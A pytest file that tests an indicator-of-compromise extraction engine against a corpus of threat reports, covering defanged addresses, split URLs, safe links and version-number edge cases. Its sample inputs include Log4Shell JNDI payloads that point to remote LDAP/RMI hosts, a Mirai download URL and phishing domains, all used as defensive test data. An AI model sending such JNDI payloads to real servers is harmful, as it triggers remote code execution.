"""The report corpus (tests/data/ioc_corpus): whole documents in the shape real reports arrive
in (advisories converted from PDF, French bulletins, blog posts in markdown, DFIR reports, pasted
pulses and MISP exports, sandbox JSON and proxy logs, forwarded e-mails, social posts, messaging
with invisible characters, a raw e-mail), each with its expected indicators. Precision and
recall per type must stay above the floors (before the fixes of session 6 the engine failed
them: see benchmarks/RESULTS.md), and every case fixed then has its own test below."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from vigisante.indicators.extraction import TYPES, extract, extract_bytes

sys.path.insert(0, str(Path(__file__).parent / "data" / "ioc_corpus"))
import evaluate  # noqa: E402

DOCS = evaluate.documents()
RESULT, ERRORS = evaluate.score(docs=DOCS)

#: Floors per type. Measured after the fixes: 1.000 everywhere (in-sample: the documents that
#: showed the misses are in the corpus). Before: ipv4 precision 0.892, url recall 0.857, ipv6
#: recall 0.800, email 0.952 on the first ten documents (benchmarks/RESULTS.md, "IOC extraction
#: quality, session 6").
PRECISION = {t: 0.97 for t in TYPES}
RECALL = {t: 0.97 for t in TYPES}


def test_the_corpus_has_documents_of_every_shape_and_every_type():
    assert len(DOCS) >= 15
    assert {p.suffix for _, p, _ in DOCS} == {".txt", ".eml", ".html"}
    for t in TYPES:
        assert RESULT[t]["tp"] + RESULT[t]["fn"] >= 1, t
    for t in ("ipv4", "domain", "url", "email", "md5", "sha1", "sha256", "cve"):
        assert RESULT[t]["tp"] + RESULT[t]["fn"] >= 7, t


@pytest.mark.parametrize("type_", TYPES)
def test_precision_and_recall_per_type(type_):
    r = RESULT[type_]
    errors = [e for e in ERRORS if e[1] == type_]
    assert r["precision"] >= PRECISION[type_], errors
    assert r["recall"] >= RECALL[type_], errors


def test_overall_f1():
    assert RESULT["all"]["f1"] >= 0.98, ERRORS


def test_the_scorer_can_fail():
    res, errors = evaluate.score(lambda path: {"ipv4": ["198.51.100.1"]}, docs=DOCS)
    assert res["ipv4"]["precision"] == 0.0 and res["url"]["recall"] == 0.0
    assert res["all"]["f1"] == 0.0 and errors


@pytest.mark.parametrize("name", [n for n, p, _ in DOCS if p.suffix == ".txt"])
def test_windows_line_ends_give_the_same_indicators(name):
    """As a Word or PDF export gives them: the cut names, addresses and URLs still join."""
    path = next(p for n, p, _ in DOCS if n == name)
    text = path.read_text(encoding="utf-8")
    data = text.replace("\n", "\r\n").encode("utf-8")
    assert extract_bytes(data, path.name) == extract_bytes(text.encode("utf-8"), path.name)


def test_the_prefilter_of_large_texts_loses_nothing(monkeypatch):
    """Large texts are scanned only around candidate characters: with the corpus documents in
    a large text, the result is that of a full scan."""
    from vigisante.indicators.extraction import _engine

    docs = [p.read_text(encoding="utf-8") for _, p, _ in DOCS if p.suffix == ".txt"]
    filler = "The hospital restored its backups (version 4.2, 12.03.2026) e.g. for the lab.\n"
    text = "\n".join(d + "\n" + filler * (i % 5) for i, d in enumerate(docs * 3))
    assert len(text) > 20 * _engine.SMALL
    fast = extract(text)
    monkeypatch.setattr(_engine, "SMALL", 10**9)
    assert fast == extract(text)
    assert "193.149.176.42" in fast["ipv4"] and "cdn-teams-update.health" in fast["domain"]


# --- the cases fixed in session 6, one by one ----------------------------------------------------

def found(text: str) -> dict[str, list[str]]:
    return {t: v for t, v in extract(text).items() if v}


@pytest.mark.parametrize("text,expected", [
    ("sent by john[.]doe[@]medsupplies-invoices[.]com", "john.doe@medsupplies-invoices.com"),
    ("from a(.)b(.)c(at)evil(.)fr", "a.b.c@evil.fr"),
])
def test_an_e_mail_with_a_defanged_local_part(text, expected):
    assert found(text) == {"email": [expected]}


def test_a_defanged_double_colon_in_an_ipv6():
    assert found("C2 2a03:b0c0:3:d0[::]12f:b001 and 2001:db8:1(::)5") == {
        "ipv6": ["2001:db8:1::5", "2a03:b0c0:3:d0::12f:b001"]}
    # "[::]:443" (every interface, as netstat prints it) is not an indicator
    assert found("listening on [::]:443 and 0.0.0.0:443") == {"ipv4": ["0.0.0.0"]}


def test_json_escaped_urls():
    text = '{"uri": "https:\\/\\/panel.medsync-cloud.xyz\\/gate\\/index.php?bid=A1&os=10"}'
    assert found(text) == {"url": ["https://panel.medsync-cloud.xyz/gate/index.php?bid=A1&os=10"]}


def test_the_percent_encoded_target_of_a_safe_link():
    text = ("https://eur03.safelinks.protection.outlook.com/?url=https%3A%2F%2Fowa.webmail-"
            "update.net%2Fowa%2Flogin.php%3Fuser%3Dradio&data=05%7C02&reserved=0")
    urls = found(text)["url"]
    assert "https://owa.webmail-update.net/owa/login.php?user=radio" in urls
    assert len(urls) == 2


@pytest.mark.parametrize("text,expected", [
    ("hxxps://secure-login dot health/verify", {"url": ["https://secure-login.health/verify"]}),
    ("the portal chu-rdv2 dot clinic", {"domain": ["chu-rdv2.clinic"]}),
])
def test_dot_before_any_tld_after_a_host_like_word(text, expected):
    assert found(text) == expected


def test_dot_before_a_rare_tld_after_a_plain_word_stays_prose():
    assert found("a red dot health check") == {}
    assert found("the yellow dot clinic") == {}


def test_a_long_url_cut_after_an_equals_sign():
    text = ("the loader from\nhxxps://cdn-static-update[.]online/assets/js/app.min.js?v=2&cache=\n"
            "false and then beaconed")
    assert found(text) == {
        "url": ["https://cdn-static-update.online/assets/js/app.min.js?v=2&cache=false"]}
    # a short URL ending with "=" and a sentence going on: not joined
    assert found("see https://a-b.com/x?id=\nthen the next step") == {
        "url": ["https://a-b.com/x?id="]}
    assert found("hxxps://cdn-static-update[.]online/assets/js/app.min.js?v=2&cache=\n"
                 "and the rest") == {
        "url": ["https://cdn-static-update.online/assets/js/app.min.js?v=2&cache="]}


def test_a_url_cut_after_a_slash_before_a_segment_of_letters_and_digits():
    assert found("hxxp://45.88.67[.]231/bins/\n  arm7 (Mirai)") == {
        "url": ["http://45.88.67.231/bins/arm7"]}
    assert found("https://a-b.com/docs/\nread it") == {"url": ["https://a-b.com/docs/"]}


@pytest.mark.parametrize("text,expected", [
    ("deny ip 91.92.249.110-91.92.249.115 any", ["91.92.249.110", "91.92.249.115"]),
    ("range 45.9.74[.]10-45.9.74[.]20", ["45.9.74.10", "45.9.74.20"]),
])
def test_an_address_range(text, expected):
    assert found(text) == {"ipv4": expected}


def test_an_address_after_a_hyphen_without_an_address_before_stays_out():
    assert found("build ID-10.1.2.3 and v2-1.2.3.4") == {}


def test_the_peer_address_of_a_squid_log_line():
    line = ("1764504130.118 87 10.20.4.33 TCP_TUNNEL/200 6411 CONNECT login.live.com:443 - "
            "HIER_DIRECT/40.126.31.71 -")
    assert found(line) == {"ipv4": ["10.20.4.33", "40.126.31.71"], "domain": ["login.live.com"]}
    # a user agent's product version stays a version
    assert found("Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36") == {}


@pytest.mark.parametrize("text", [
    '"signature": "Trojan.X", "engine": "32.1.0.141 (2026-11-30)"',
    "antivirus definitions 1.401.12.0 were current",
    "Ivanti EPMM 12.1.0.1 on a RHEL 8.9 appliance",
    "Cisco IOS XE 17.9.4.1",
    "4.2.1.3 Lateral movement\nThe attacker used PsExec.",
    "text\n  3.2.1.1 Affected products\n",
])
def test_versions_and_section_numbers_are_not_addresses(text):
    assert found(text) == {}


@pytest.mark.parametrize("text,expected", [
    ("C2 5.8.18.7 port 443", ["5.8.18.7"]),
    ("VPN 10.1.1.1 was used", ["10.1.1.1"]),
    ("5.8.18.7 Cobalt Strike team server", ["5.8.18.7"]),
    ("4.2.1.3 is the resolver", ["4.2.1.3"]),
])
def test_addresses_next_to_acronyms_or_at_a_line_start_stay_addresses(text, expected):
    assert found(text) == {"ipv4": expected}


def test_a_host_name_cut_after_a_hyphen_at_a_line_end():
    assert found("the beacon queried cdn-teams-\nupdate.health as a fallback") == {
        "domain": ["cdn-teams-update.health"]}
    assert found("a state-\nsponsored actor") == {}


def test_an_address_cut_after_a_dot_at_a_line_end():
    assert found("the IP 193.\n149.176.42 (split)") == {"ipv4": ["193.149.176.42"]}
    assert found("the IP 193.149.\r\n176.42 (split)") == {"ipv4": ["193.149.176.42"]}
    assert found("in 2019.\n42 hospitals") == {}


def test_word_processor_hyphens_in_names():
    assert found("réglez ici : https://colissimo\u2011suivi.fr-livraison.xyz/p/8812") == {
        "url": ["https://colissimo-suivi.fr-livraison.xyz/p/8812"]}
    assert found("puis secure\u2010ameli\uff0ecom") == {"domain": ["secure-ameli.com"]}


def test_jndi_callback_urls():
    text = ("GET /viewer?study=${jndi:ldap://45.83.193.150:1389/Exploit} HTTP/1.1\n"
            "User-Agent: ${jndi:rmi://79.124.62.86:1099/o}")
    assert found(text) == {"url": ["ldap://45.83.193.150:1389/Exploit",
                                   "rmi://79.124.62.86:1099/o"]}


def test_the_host_of_a_unc_path():
    text = ("mounted \\\\files-share-corp.eastus.cloudapp.azure.com@SSL\\DavWWWRoot\\x.lnk and "
            "\\\\185.81.68[.]74\\share\\sound.wav")
    assert found(text) == {"domain": ["files-share-corp.eastus.cloudapp.azure.com"],
                           "ipv4": ["185.81.68.74"]}
    # a name inside a Windows path is not the host of a share
    assert found("C:\\Users\\Public\\evil-updates.com\\run.exe") == {}


@pytest.mark.parametrize("text", [
    "[email-addr:value = 'ceo.office@hospital-payments.info']",
    "`ceo.office@hospital-payments.info`", "|ceo.office@hospital-payments.info|",
])
def test_a_quote_or_mark_before_an_e_mail_address_is_not_its_first_character(text):
    assert found(text) == {"email": ["ceo.office@hospital-payments.info"]}


@pytest.mark.parametrize("name", [n for n, p, _ in DOCS if p.suffix == ".txt"])
def test_the_prefilter_loses_nothing_on_each_document_alone(monkeypatch, name):
    """Each document alone between long plain paragraphs (no neighbour to widen its regions):
    "prenom.nom (at) chu-montpellier (point) fr" was lost before "(point)" became a needle."""
    from vigisante.indicators.extraction import _engine

    path = next(p for n, p, _ in DOCS if n == name)
    filler = "The hospital restored its backups (version 4.2, 12.03.2026) e.g. for the lab.\n"
    text = filler * 40 + path.read_text(encoding="utf-8") + "\n" + filler * 40
    assert len(text) > 2 * _engine.SMALL
    fast = extract(text)
    monkeypatch.setattr(_engine, "SMALL", 10**9)
    assert fast == extract(text)


def test_a_message_copied_from_outlook_as_text_is_text_not_an_e_mail():
    """Outlook's "From: / Sent: / To: / Subject:" block is not RFC 822 headers: read as an
    e-mail, its addresses (a "[mailto:...]" sender, the recipients) were lost."""
    text = ("From: Helpdesk NHS Trust [mailto:helpdesk@nhs-trust-support.co.uk]\n"
            "Sent: 27 November 2026 09:14\nTo: Ward 7 <ward7@example-hospital.nhs.uk>\n"
            "Subject: RE: Password expiry\n\nKeep it here<https://nhsmail-login.net/keep>\n")
    found_ = extract_bytes(text.encode("utf-8"), "pasted.txt")
    assert found_["email"] == ["helpdesk@nhs-trust-support.co.uk", "ward7@example-hospital.nhs.uk"]
    assert found_["url"] == ["https://nhsmail-login.net/keep"]
    # a message that went through mail servers is still an e-mail (recipients left out)
    sent = text.replace("Sent: 27 November 2026 09:14\n",
                        "Date: Fri, 27 Nov 2026 09:14:00 +0000\nMessage-ID: <a1@b.uk>\n")
    assert "ward7@example-hospital.nhs.uk" not in extract_bytes(sent.encode("utf-8"),
                                                                "pasted.txt")["email"]


def test_a_site_named_like_a_detection_prefix_is_a_domain():
    assert found("already listed by ransomware.live on 2026-11-20") == {
        "domain": ["ransomware.live"]}
    assert found("detected as Ransomware.Live and Trojan.Agent.Win and trojan.win") == {}


def test_a_defanged_dot_after_a_name_ends_it():
    """Tools that defang every dot also defang the full stop: "evil-x[.]com[.]" gave nothing."""
    assert found("Block evil-x[.]com[.]") == {"domain": ["evil-x.com"]}
    assert found("C2: evil-x[.]com[.] ") == {"domain": ["evil-x.com"]}
